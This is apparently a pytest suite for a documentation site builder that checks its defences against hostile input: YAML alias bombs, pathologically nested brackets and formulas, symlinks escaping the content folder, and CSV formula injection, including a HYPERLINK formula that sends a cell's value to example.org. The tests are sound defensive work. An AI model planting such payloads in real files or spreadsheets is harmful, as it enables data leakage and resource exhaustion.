"""Hostile and extreme input, round two (issue 17): every input costs work bounded by its size.

Each test runs the attack under kernel limits on CPU time and memory (tests/support/bounded.py) that
correct code uses a small part of and the unbounded code it replaces always exceeded; none asserts a
wall-clock time."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from alliance_site.data.exports import csv_values, datapackage, table_csv, table_json
from alliance_site.data.numbers import format_number
from alliance_site.load.safe_yaml import YamlProblem, load_yaml
from alliance_site.text.markup import MarkupError, parse
from alliance_site.validate.run import load_corpus
from support.bounded import run_bounded
from support.sitebuild import mkdocs_build


def _ok(result) -> None:
    assert result.returncode == 0, (result.returncode, result.stderr[-2000:])


# --- the citation parser is linear in the paragraph -----------------------------------------------


@pytest.mark.parametrize(
    "paragraph",
    [
        "'[' * 100_000",  # each '[' used to rescan to the end of the paragraph
        "'[' * 20_000 + ']'",
        "'[ ' * 50_000 + ']' * 50_000",  # nested brackets, none a citation
        "'[x ' * 30_000 + '@key'",  # unclosed brackets before a key: one error, at the first
        "'@key ' * 50_000",  # narrative citations, each looking for a locator after it
    ],
)
def test_citation_parser_is_linear_in_the_paragraph(paragraph):
    _ok(
        run_bounded(f"""
            from alliance_site.text.markup import MarkupError, _parse
            text = {paragraph}
            try:
                _parse(text)
            except MarkupError:
                pass
        """)
    )


def test_the_first_unclosed_bracket_before_a_key_is_the_one_named():
    with pytest.raises(MarkupError) as caught:
        parse("[x " * 1000 + "@key")
    assert caught.value.offset == 0
    assert "never closed" in caught.value.message


def test_a_long_paragraph_of_brackets_is_plain_text():
    tokens = parse("[" * 100_000)
    assert "".join(t.text for t in tokens) == "[" * 100_000


# --- every alias counts, with the size of what it brings back ---------------------------------------


def test_a_long_text_repeated_by_aliases_is_refused_by_its_size():
    # under the limits: before the budget, this file took 105 s and 5.7 GB to load
    _ok(
        run_bounded("""
            from alliance_site.load.safe_yaml import YamlProblem, load_yaml
            source = "actors: [&a " + "x" * 1_000_000 + ", " + ", ".join(["*a"] * 300) + "]\\n"
            try:
                load_yaml(source.encode())
            except YamlProblem as problem:
                assert "aliases expand the file to more than" in problem.message, problem
                assert (problem.line, problem.column) == (1, 10), problem
            else:
                raise SystemExit("accepted")
        """)
    )


def test_scalar_aliases_count_as_alias_uses():
    source = "a: &a x\nb: [" + ", ".join(["*a"] * 101) + "]\n"
    with pytest.raises(YamlProblem) as caught:
        load_yaml(source.encode())
    assert "more than 100 alias uses" in caught.value.message


def test_a_thousand_aliases_of_a_long_text_stay_within_memory():
    _ok(
        run_bounded("""
            from alliance_site.load.safe_yaml import YamlProblem, load_yaml
            source = "actors: [&a " + "x" * 1_000_000 + ", " + ", ".join(["*a"] * 1000) + "]\\n"
            try:
                load_yaml(source.encode())
            except YamlProblem as problem:
                assert "aliases expand" in problem.message
            else:
                raise SystemExit("accepted")
        """)
    )


def test_a_few_scalar_aliases_are_fine():
    loaded = load_yaml(b"a: &a text\nb: [*a, *a]\n")
    assert loaded.data == {"a": "text", "b": ["text", "text"]}


def test_a_number_with_thousands_of_digits_is_refused_with_its_position():
    with pytest.raises(YamlProblem) as caught:
        load_yaml(b"id: t\nvalue: " + b"9" * 5000 + b"\n")
    assert (caught.value.line, caught.value.column) == (2, 8)
    assert "5,000 digits" in caught.value.message


# --- table formulas and numbers: bounded, with file:line:column from validate and build -------------

MINIMAL = Path(__file__).parent / "roots" / "minimal"
TABLE = "content/tables/numbers.yml"
CHECK = '  - {id: total-b, cell: total.b, equals: "part1.b + part2.b"}'


def _corpus(tmp_path: Path, old: str, new: str) -> Path:
    shutil.copytree(MINIMAL, tmp_path / "project")
    table = tmp_path / "project" / TABLE
    text = table.read_text("utf-8")
    assert old in text
    table.write_text(text.replace(old, new), "utf-8")
    return tmp_path / "project"


def _formula(formula: str) -> tuple[str, str]:
    return CHECK, f'  - {{id: total-b, cell: total.b, equals: "{formula}"}}'


FORMULA_COLUMN = CHECK.index('"') + 2  # the formula's first character, 1-based

HOSTILE_FORMULAS = [
    # (id, (old, new) in the table, line, column, words the message must hold)
    ("100-nested-parentheses", _formula("(" * 100 + "part1.b" + ")" * 100), 21, FORMULA_COLUMN + 40, ["40 deep"]),
    ("200-unary-minuses", _formula("-" * 200 + "part1.b"), 21, FORMULA_COLUMN + 40, ["40 deep"]),
    ("1200-term-sum", _formula(" + ".join(["part1.b"] * 1200)), 21, FORMULA_COLUMN + 1000, ["characters long"]),
    ("5000-digit-number", _formula("9" * 5000), 21, FORMULA_COLUMN + 1000, ["characters long"]),
    ("40-digit-number", _formula("9" * 40), 21, FORMULA_COLUMN, ["40 digits"]),
    # 250 parentheses or 1,000 minuses are more than 400 tokens: refused before they are parsed
    ("250-nested-parentheses", _formula("(" * 250 + "part1.b" + ")" * 250), 21, FORMULA_COLUMN + 406, ["400"]),
    ("1000-unary-minuses", _formula("-" * 1000), 21, FORMULA_COLUMN + 400, ["400"]),
    ("400-term-sum", _formula("+".join(["1"] * 300)), 21, FORMULA_COLUMN + 400, ["more than 400"]),
    (
        "40-factors-of-a-billion-over-3",
        _formula(" * ".join(["1000000000"] * 40) + " / 3"),
        21,
        FORMULA_COLUMN + 11 * 13 - 2,  # the 11th '*': 10^9 to the 12th passes 10^100
        ["more than 100 digits"],
    ),
    (
        "a-cell-of-400-nines",
        ("{a: {value: 10}, b: {value: 10}}", "{a: {value: 10}, b: {value: " + "9" * 400 + "}}"),
        15,
        40,
        ["400 digits"],
    ),
]


@pytest.mark.parametrize("case", HOSTILE_FORMULAS, ids=[c[0] for c in HOSTILE_FORMULAS])
def test_hostile_formulas_and_numbers_are_refused_by_validate_with_their_place(case, tmp_path):
    _, (old, new), line, column, words = case
    project = _corpus(tmp_path, old, new)
    result = load_corpus(project / "content")
    assert result.corpus is None
    problems = [p for p in result.problems if p.severity == "error"]
    assert [(p.file, p.line, p.column) for p in problems] == [(TABLE, line, column)], problems
    for word in words:
        assert word in problems[0].message, problems[0]


def test_a_formula_of_almost_two_megabytes_is_refused_in_bounded_work(tmp_path):
    project = _corpus(tmp_path, *_formula("part1.b" + " + 1" * 450_000))
    _ok(
        run_bounded(f"""
            from alliance_site.validate.run import load_corpus
            result = load_corpus({str(project / "content")!r})
            assert result.corpus is None
            assert any("characters long" in p.message for p in result.problems), result.problems
        """)
    )


def test_the_build_gives_the_same_place_as_validate_and_no_traceback(tmp_path):
    project = _corpus(tmp_path, *_formula(" * ".join(["1000000000"] * 40) + " / 3"))
    built = mkdocs_build(project, tmp_path / "site")
    assert built.returncode != 0
    assert "Traceback" not in built.stderr
    assert f"{TABLE}:21:{FORMULA_COLUMN + 11 * 13 - 2}: error:" in built.stderr, built.stderr[-3000:]
    assert not (tmp_path / "site").exists()


def test_numbers_are_formatted_exactly_at_any_size():
    assert format_number(10**400 - 1) == "9" + ",999" * 133
    assert format_number(-(10**5000)).count(",") == 5000 // 3
    assert format_number(1234567, "id") == "1.234.567"
    assert format_number(-1000) == "-1,000"
    assert format_number(999) == "999"


# --- ids the build could not write are found by validate first ---------------------------------------


def _with_entry(tmp_path: Path, rel: str, text: str) -> Path:
    shutil.copytree(MINIMAL, tmp_path / "project")
    target = tmp_path / "project" / "content" / rel
    target.write_text(text, "utf-8")
    return tmp_path / "project"


LONG = "a" * 300
ID_CASES = [
    # (id, file, its text, words the one error at line 2, column 5 must hold)
    ("long-source-id", "sources/long.yml", f"id: {LONG}\ntype: book\ntitle: T\n", ["300 characters long"]),
    (
        "long-table-id",
        "tables/long.yml",
        f"id: {LONG}\ncaption: C\ncolumns: [{{id: a, label: A}}]\nrows: [{{id: r, label: R, cells: {{}}}}]\n",
        ["300 characters long"],
    ),
    ("source-index", "sources/index.yml", "id: index\ntype: book\ntitle: T\n", ["listing page bibliography/index.md"]),
    (
        "table-index",
        "tables/index.yml",
        "id: index\ncaption: C\ncolumns: [{id: a, label: A}]\nrows: [{id: r, label: R, cells: {}}]\n",
        ["listing page tables/index.md"],
    ),
    ("figure-index", "figures/index.yml", "id: index\ncaption: C\n", ["listing page figures/index.md"]),
    ("event-index", "events/index.yml", 'id: index\ndate: "1950"\ntitle: T\n', ["listing page timeline/index.md"]),
    # the clash is reported at the key that sorts later: here the minimal corpus's own smith2020
    (
        "source-case",
        "sources/Smith2020.yml",
        "id: Smith2020\ntype: book\ntitle: T\n",
        ["same page as", "ignore capitals"],
    ),
]
REPORTED_IN = {"source-case": "sources/smith2020.yml"}


@pytest.mark.parametrize("case", ID_CASES, ids=[c[0] for c in ID_CASES])
def test_ids_the_build_cannot_write_are_errors_of_validate(case, tmp_path):
    name, rel, text, words = case
    project = _with_entry(tmp_path, rel, "# a hostile id\n" + text)
    result = load_corpus(project / "content")
    assert result.corpus is None
    where = f"content/{REPORTED_IN.get(name, rel)}"
    mine = [p for p in result.problems if p.file == where and p.severity == "error"]
    assert [(p.line, p.column) for p in mine] == [(2, 5)], result.problems
    for word in words:
        assert word in mine[0].message, mine[0]


def test_the_build_stops_on_an_index_id_instead_of_dropping_the_entry(tmp_path):
    project = _with_entry(tmp_path, "sources/index.yml", "id: index\ntype: book\ntitle: T\n")
    built = mkdocs_build(project, tmp_path / "site")
    assert built.returncode != 0
    assert "content/sources/index.yml:1:5: error: source id 'index'" in built.stderr, built.stderr[-3000:]
    assert "written by hand" not in built.stderr
    assert "Traceback" not in built.stderr


# --- nothing outside the project is read as content ----------------------------------------------------

SECRET_SOURCE = "id: secret\ntype: book\ntitle: A secret outside the project\n"


def test_a_yaml_file_linked_from_outside_content_is_refused_and_never_published(tmp_path):
    outside = tmp_path / "outside" / "secret.yml"
    outside.parent.mkdir()
    outside.write_text(SECRET_SOURCE, "utf-8")
    shutil.copytree(MINIMAL, tmp_path / "project")
    (tmp_path / "project" / "content" / "sources" / "secret.yml").symlink_to(outside)
    result = load_corpus(tmp_path / "project" / "content")
    assert result.corpus is None
    assert [str(p) for p in result.problems if "outside content/" in p.message] == [
        (
            "content/sources/secret.yml:1:1: error: file is a link to a file outside content/ "
            "(copy the files into content/ instead of linking to them)"
        )
    ]
    built = mkdocs_build(tmp_path / "project", tmp_path / "site")
    assert built.returncode != 0 and "Traceback" not in built.stderr
    assert "content/sources/secret.yml:1:1: error: file is a link to a file outside content/" in built.stderr
    assert not (tmp_path / "site").exists()


def test_a_folder_linked_from_outside_content_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yml").write_text(SECRET_SOURCE, "utf-8")
    shutil.copytree(MINIMAL, tmp_path / "project")
    events = tmp_path / "project" / "content" / "events"
    shutil.rmtree(events)
    events.symlink_to(outside, target_is_directory=True)
    result = load_corpus(tmp_path / "project" / "content")
    assert result.corpus is None
    assert [str(p) for p in result.problems if "outside" in p.message] == [
        (
            "content/events:1:1: error: folder is a link to a folder outside content/ "
            "(copy the files into content/ instead of linking to them)"
        )
    ]


def test_a_link_inside_content_is_read(tmp_path):
    shutil.copytree(MINIMAL, tmp_path / "project")
    sources = tmp_path / "project" / "content" / "sources"
    (sources / "doe2019.yml").rename(tmp_path / "project" / "content" / "doe2019.txt")
    (sources / "doe2019.yml").symlink_to(Path("..") / "doe2019.txt")
    result = load_corpus(tmp_path / "project" / "content")
    assert [p for p in result.problems if p.severity != "note"] == [] and "doe2019" in result.corpus.sources


# --- CSV downloads are safe to open in a spreadsheet; JSON and pages keep the text ---------------------------

FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]


def _table_with(texts: list[str]) -> dict:
    return {
        "id": "t",
        "caption": "C",
        "columns": [{"id": "a", "label": "A"}],
        "rows": [
            {"id": f"r{i}", "label": text, "unit": text, "cells": {"a": {"value": -i, "as_written": text}}}
            for i, text in enumerate(texts)
        ],
    }


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not():
    text = table_csv(_table_with(FORMULAS + ["plain - text", "1 = 1"]))
    records = list(csv.DictReader(io.StringIO(text, newline="")))
    for record, formula in zip(records, FORMULAS, strict=False):
        for name in ("row_label", "unit", "a_as_written"):
            assert record[name] == "'" + formula, (name, record[name])
    assert records[-2]["row_label"] == "plain - text" and records[-1]["a_as_written"] == "1 = 1"
    assert [record["a"] for record in records] == [str(-i) for i in range(len(FORMULAS) + 2)]  # negative numbers kept
    assert csv_values(text)["r2.a"] == -2


def test_json_and_datapackage_keep_the_text_verbatim_and_say_what_the_csv_does():
    table = _table_with(FORMULAS)
    assert json.loads(table_json(table))["rows"][0]["label"] == FORMULAS[0]
    package = json.loads(datapackage([table], name="p", title="P"))
    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
    assert "begins with an apostrophe" in csv_resource["description"]
    assert "JSON file and the pages keep the text verbatim" in csv_resource["description"]
